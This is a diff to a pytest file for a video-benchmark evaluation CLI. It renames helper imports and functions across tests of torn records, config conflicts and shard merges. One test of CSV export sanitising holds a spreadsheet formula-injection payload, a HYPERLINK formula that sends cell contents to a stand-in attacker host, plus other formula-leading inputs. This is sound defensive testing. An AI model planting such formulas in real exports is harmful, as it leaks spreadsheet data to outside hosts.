@@ -28,8 +28,8 @@ from typing import Any, Iterator
 import pytest
 
 from conftest import REPO, run_cli
-from hostile import _good, _video, write_data_map
-from test_reliability_faults import FaultServer, _openai_args, _slow_run, _wait
+from support.hostile import _good, _video, write_data_map
+from support.fault_server import FaultServer, openai_args, slow_run, wait_until
 from vbench_async.results.store import read_results
 
 BENCH = "mmvu"
@@ -52,7 +52,7 @@ def _rec(pid: str, video: int = 0, **kw: Any) -> dict[str, Any]:
 
 
 def _run(data_map: Path, out: Path, cache: Path, url: str, *extra: str) -> subprocess.CompletedProcess:
-    return run_cli(*_openai_args(data_map, out, cache, url, *extra), timeout=300)
+    return run_cli(*openai_args(data_map, out, cache, url, *extra), timeout=300)
 
 
 def _summary(out: Path) -> dict[str, Any]:
@@ -191,7 +191,7 @@ def test_lines_of_records_no_longer_in_the_file_count_nowhere_and_an_interrupted
     data_map = _suite(data, good + ['{"problem_id": "j9", "problem": "torn'])  # a torn fifth line: record "#4"
     out, site = tmp_path / "out", tmp_path / "out" / "leaderboard"
     with FaultServer() as server:
-        args = _openai_args(data_map, out, tmp_path / "cache", server.url)
+        args = openai_args(data_map, out, tmp_path / "cache", server.url)
         args.remove("--no-site")
         first = run_cli(*args, timeout=300)
         assert first.returncode == 1, first.stderr[-3000:]  # the torn record is a recorded failure
@@ -226,8 +226,8 @@ def test_lines_of_records_no_longer_in_the_file_count_nowhere_and_an_interrupted
 
 
 def test_a_second_run_with_another_config_into_the_same_output_dir_is_refused_naming_the_first(tmp_path):
-    with _slow_run(tmp_path, 6) as (args, first, out):
-        _wait(lambda: any((out / "results").glob("*.jsonl")), first)
+    with slow_run(tmp_path, 6) as (args, first, out):
+        wait_until(lambda: any((out / "results").glob("*.jsonl")), first)
         second = run_cli(*args, "--max-tokens", "64", timeout=300)  # another config: another result file
         first.wait(timeout=300)
     assert second.returncode == 2, second.stderr[-3000:]
@@ -279,7 +279,7 @@ def test_a_damaged_line_makes_judge_and_its_site_agree_the_run_is_partial(tmp_pa
     data_map = _suite(tmp_path / "data", [_rec(f"q{i}") for i in range(3)])
     out = tmp_path / "out"
     with FaultServer() as server:
-        args = _openai_args(data_map, out, tmp_path / "cache", server.url)
+        args = openai_args(data_map, out, tmp_path / "cache", server.url)
         args.remove("--no-site")
         assert run_cli(*args, timeout=300).returncode == 0
         path = _result_file(out)
@@ -301,7 +301,7 @@ def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(tmp_path):
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
     data_map = _suite(tmp_path / "data", [_rec("=1+2", problem="@SUM(A1) which colour?"), _rec("-q", problem="+x")])
     with FaultServer(answer=formula) as server:
-        args = _openai_args(data_map, tmp_path / "out", tmp_path / "cache", server.url)
+        args = openai_args(data_map, tmp_path / "out", tmp_path / "cache", server.url)
         args.remove("--no-site")
         proc = run_cli(*args, timeout=300)
     assert proc.returncode in (0, 1), proc.stderr[-3000:]
@@ -318,7 +318,7 @@ def test_merge_leaves_out_a_line_of_another_config_pasted_into_a_shard_file(tmp_
     data_map = _suite(tmp_path / "data", [_rec(f"q{i}") for i in range(4)])
     out = tmp_path / "out"
     with FaultServer() as server:
-        args = _openai_args(data_map, out, tmp_path / "cache", server.url)
+        args = openai_args(data_map, out, tmp_path / "cache", server.url)
         assert run_cli(*args, "--shard", "0/2", timeout=300).returncode == 0
         (shard0,) = (out / "results").glob("*.shard-0-of-2.jsonl")
         first = json.loads(shard0.read_text().splitlines()[0])
